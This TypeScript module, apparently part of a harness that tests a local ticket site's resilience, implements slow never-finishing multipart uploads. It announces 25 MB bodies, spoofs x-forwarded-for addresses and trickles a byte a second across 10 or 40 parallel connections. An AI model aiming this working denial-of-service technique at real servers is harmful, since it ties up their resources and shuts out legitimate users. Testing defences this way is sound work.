import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import type { Attack, Clock } from "../attack.ts";
import { inParallel, untilOver } from "../pace.ts";
import type { Site } from "../site.ts";
import { attackerAt } from "../ticket-form.ts";

const megabyte = 2 ** 20;
const boundary = "----mai";

/** What a form with five files announces, and the beginning of its first file. */
function beginning(port: number, from: string): string {
  const part = `--${boundary}\r\ncontent-disposition: form-data; name="files"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`;
  return [
    "POST /api/tickets HTTP/1.1",
    `host: 127.0.0.1:${port}`,
    `x-forwarded-for: ${from}`,
    `content-type: multipart/form-data; boundary=${boundary}`,
    `content-length: ${25 * megabyte}`,
    "",
    part,
  ].join("\r\n");
}

const fileEnd = Buffer.from(
  `\r\n--${boundary}\r\ncontent-disposition: form-data; name="files"; filename="b.jpg"\r\ncontent-type: image/jpeg\r\n\r\n`,
);

const openUploads = new Set<Socket>();

/** Sends nearly everything at once, and then a byte a second. */
async function neverFinish(site: Site, from: string, clock: Clock): Promise<void> {
  const socket = connect(site.port, "127.0.0.1");
  openUploads.add(socket);
  socket.on("error", () => undefined);
  socket.resume();
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.write(beginning(site.port, from));
  for (let file = 0; file < 4; file++) socket.write(Buffer.concat([Buffer.alloc(4.9 * megabyte, 0x61), fileEnd]));
  const trickle = setInterval(() => socket.writable && socket.write("a"), 1000);
  await Promise.race([closed, untilOver(clock)]);
  clearInterval(trickle);
  socket.destroy();
  openUploads.delete(socket);
  // One that is cut off at once is not tried again a thousand times a second.
  if (!clock.over()) await delay(200);
}

const neverFinished = (row: string, name: string, lanes: number, addresses: number): Attack => ({
  row,
  name,
  prepare: async (site) => ({
    attack: (clock) => inParallel(clock, lanes, (index) => neverFinish(site, attackerAt(index % addresses), clock)),
  }),
});

export const unfinishedUploads: Attack[] = [
  neverFinished("5a", "dieci invii di 25 MB mai finiti, da un indirizzo", 10, 1),
  neverFinished("5b", "quaranta invii mai finiti, da venti indirizzi", 40, 20),
];
